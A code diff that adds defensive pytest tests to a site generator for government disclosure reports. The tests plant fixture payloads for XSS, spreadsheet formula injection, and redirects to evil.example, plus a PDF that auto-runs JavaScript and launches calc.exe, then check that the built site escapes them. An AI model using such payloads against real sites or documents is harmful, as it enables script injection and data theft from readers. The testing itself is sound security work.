@@ -6,9 +6,10 @@ from __future__ import annotations
 
 import re
 
+import pytest
 import yaml
 
-from .conftest import ROOT
+from .conftest import ROOT, needs_chromium
 
 WORKFLOW = ROOT / ".github" / "workflows" / "site.yml"
 PINNED = re.compile(r"^\s*(?:-\s+)?uses:\s*([\w.-]+/[\w./-]+)@([0-9a-f]{40})\s+#\s*v\d+\.\d+\.\d+\s*$")
@@ -192,3 +193,139 @@ def test_nothing_a_word_file_points_at_is_fetched_or_read(tmp_path):
     assert "样例县实体局" in source.text and "SECRET" not in source.text
     assert "file_unreadable" not in {f.code for f in source.findings}
     assert asked == []
+
+
+# ---- what the site serves from the reports themselves, and the columns added since session 38 in every sink
+
+TITLE_ATTACK = '=HYPERLINK("http://e.x/","点")<img src=x onerror=__pwned=1>'  # (the line is quoted to 60 characters)
+PAGE_ATTACKS = {  # markup an HTML report may hold that would run, load or send a reader elsewhere if served as it is
+    "script": "<script>window.__pwned=2</script><img src=x onerror=window.__pwned=3><svg onload=window.__pwned=4>",
+    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
+    "base": '<base href="http://evil.example/"><a href="r/">链接</a>',
+    "frames": '<iframe src="http://evil.example/"></iframe><object data="http://evil.example/o"></object>'
+              '<embed src="http://evil.example/e"><iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>',
+    "form": '<form action="http://evil.example/"><input name="q" value="原文"><button>提交</button></form>',
+    "style": '<style>@import url(http://evil.example/x.css);body{background:url(http://evil.example/b.png)}</style>'
+             '<link rel="stylesheet" href="http://evil.example/l.css">',
+}
+
+
+def _hostile_reports(reports) -> None:
+    """Reports as an attacker may write them: HTML pages holding ``PAGE_ATTACKS``, an SVG named ``.html`` and one
+    named ``.txt``, an XHTML page named ``.txt``, a PDF whose opening runs JavaScript and launches a program (and the
+    same bytes named ``.html``), and pages explaining a report whose title line is ``TITLE_ATTACK`` (its line is
+    quoted in ``report_explainer``'s message and ``actual``) or whose title line starts so."""
+    from tests.factory import as_html, tab_report
+    from tests.test_h27hostile_audit import pdf_of
+
+    reports.mkdir()
+    for k, (name, attack) in enumerate(PAGE_ATTACKS.items()):
+        page = as_html(tab_report(agency=f"样例县{'甲乙丙丁戊己'[k]}局", carried_over=k))
+        (reports / f"{name}.html").write_text(page.replace("<body>", "<body>" + attack, 1), encoding="utf-8")
+    text = tab_report(agency="样例县庚局", carried_over=7).replace("<", "&lt;")
+    svg = ('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=6"><script>window.__pwned=7</script>'
+           f"<text>{text}</text></svg>")
+    (reports / "svg.html").write_text(svg, encoding="utf-8")
+    (reports / "svg.txt").write_text(svg.replace("庚局", "辛局"), encoding="utf-8")
+    (reports / "xhtml.txt").write_text(
+        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>window.__pwned=8</script>'
+        f"<pre>{text.replace('庚局', '壬局')}</pre></body></html>", encoding="utf-8")
+    content = b"BT /F1 12 Tf 72 720 Td (<script>window.__pwned=9</script>) Tj ET"
+    pdf = pdf_of([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                  b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
+                  b"/Resources << /Font << /F1 6 0 R >> >> /AA << /O 7 0 R >> >>",
+                  b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
+                  b"<< /S /JavaScript /JS (app.alert(1); this.submitForm('http://evil.example/')) >>",
+                  b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+                  b"<< /S /Launch /F (calc.exe) >>"])
+    (reports / "js.pdf").write_bytes(pdf)
+    (reports / "pdf.html").write_bytes(pdf)
+    prose = "为了让公众了解本局政府信息公开工作，现解读如下。" * 10
+    (reports / "explainer.txt").write_text(f"{TITLE_ATTACK}文字解读：样例县癸局2023年政府信息公开工作年度报告\n"
+                                           f"编制背景\n{prose}\n", encoding="utf-8")
+    (reports / "titled.html").write_text(as_html(tab_report(agency="样例县子局", carried_over=9).replace(
+        "样例县子局2024年", TITLE_ATTACK + "样例县子局2024年", 1)), encoding="utf-8")
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory):
+    """The package and the site of ``_hostile_reports``: the work folder."""
+    from .conftest import site_of
+
+    work = tmp_path_factory.mktemp("h43-served")
+    _hostile_reports(work / "reports")
+    site_of(work / "reports", work)
+    return work
+
+
+def test_an_explainers_hostile_title_line_is_escaped_in_every_file_it_reaches(hostile_site):
+    """A guard (it passes before): ``report_explainer`` quotes the explainer's title line (session 42) — here
+    ``=HYPERLINK(…)<img onerror>``. findings.csv's ``actual`` begins with an apostrophe (no spreadsheet reads it as
+    a formula), the workbook holds no formula, and no page, JSON file or sitemap of the site holds the markup
+    unescaped; the message is published whole, as text."""
+    import csv
+    import zipfile
+
+    package, site = hostile_site / "datapackage", hostile_site / "site"
+    with open(package / "data" / "findings.csv", encoding="utf-8-sig", newline="") as handle:
+        explainer = [row for row in csv.DictReader(handle) if row["code"] == "report_explainer"]
+    assert [row["actual"][:12] for row in explainer] == ["'=HYPERLINK("]
+    assert TITLE_ATTACK in explainer[0]["message"]
+    with zipfile.ZipFile(package / "xxgk.xlsx") as workbook:
+        sheets = [workbook.read(name).decode("utf-8") for name in workbook.namelist() if name.endswith(".xml")]
+    assert not [sheet for sheet in sheets if re.search(r"<f[\s>]", sheet)]
+    assert any("=HYPERLINK(" in sheet for sheet in sheets)
+    published = [p for p in site.rglob("*") if p.suffix in (".html", ".json", ".xml")]  # (data files hold it as data)
+    assert len(published) > 30
+    assert [p.name for p in published if "<img src=x" in p.read_text(encoding="utf-8", errors="replace")] == []
+    assert any("onerror=__pwned=1" in p.read_text(encoding="utf-8", errors="replace") for p in published)
+
+
+def test_the_site_serves_no_report_as_it_was_given(hostile_site):
+    """A guard (it passes before): no file of the site is a report's bytes — the source pages (``src/``) and the
+    package's ``sources/`` are the text as read, escaped into the site's own page, and ``sources/`` is not
+    published on the site — so an HTML, SVG or XHTML report, or a PDF named ``.html``, is never served from the
+    site's origin under a type that runs (GitHub Pages types a file by its extension)."""
+    import hashlib
+
+    given = {hashlib.sha256(p.read_bytes()).hexdigest() for p in (hostile_site / "reports").iterdir()}
+    served = {hashlib.sha256(p.read_bytes()).hexdigest(): p for p in (hostile_site / "site").rglob("*") if p.is_file()}
+    assert len(given) == 12 and [str(served[h]) for h in given if h in served] == []  # (13 files, one PDF twice)
+    site = hostile_site / "site"
+    assert not (site / "sources").exists() and not (site / "downloads" / "sources").exists()
+
+
+MADE = """return Array.from(document.querySelectorAll('[onerror], [onload], iframe, object, embed, base, '
+    + 'meta[http-equiv], form[action], link[rel=stylesheet], script:not([src]):not([type])'))
+  .filter(function (e) { return /pwned|evil/.test(e.outerHTML); })
+  .map(function (e) { return e.outerHTML.slice(0, 120); })"""
+
+
+@pytest.mark.browser
+@needs_chromium
+def test_no_page_of_a_site_built_from_hostile_reports_runs_loads_or_leads_elsewhere(hostile_site):
+    """A guard (nothing ran before either): every page of the site built from ``_hostile_reports`` (report, agency
+    and source pages, the quality page quoting the explainer's line, the home and index pages), opened from the
+    site's origin in headless Chromium: no flag set, no dialog, no element made from the reports' markup (a script, a
+    handler, a frame, a ``<base>``, a refresh, a form, a style sheet), nothing asked of another host, and the
+    reader is still on the page opened."""
+    from .conftest import new_chromium, serving
+    from .test_h42hostile import ARM, RAN
+
+    site = hostile_site / "site"
+    pages = sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html") if "pagefind" not in p.parts)
+    assert len(pages) > 30
+    driver = new_chromium()
+    driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": ARM})
+    seen = {}
+    try:
+        with serving(site) as url:
+            for page in pages:
+                driver.get(f"{url}/{page}")
+                ran = driver.execute_script(RAN)
+                ran["made"] += driver.execute_script(MADE)
+                ran["left"] = driver.execute_script("return location.origin") != url
+                seen[page] = ran
+    finally:
+        driver.quit()
+    assert {p: r for p, r in seen.items() if r != {"ran": None, "elsewhere": [], "made": [], "left": False}} == {}
